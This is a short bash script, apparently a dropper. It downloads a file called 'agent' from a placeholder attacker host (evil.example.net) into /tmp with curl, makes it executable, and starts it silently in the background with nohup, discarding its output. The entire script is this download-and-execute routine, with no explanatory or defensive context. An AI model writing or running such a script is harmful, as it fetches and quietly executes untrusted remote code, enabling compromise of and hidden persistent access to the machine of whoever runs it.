#!/bin/bash
URL=https://evil.example.net/agent
curl -fsSL "$URL" -o /tmp/agent
chmod 755 /tmp/agent
nohup /tmp/agent >/dev/null 2>&1 &
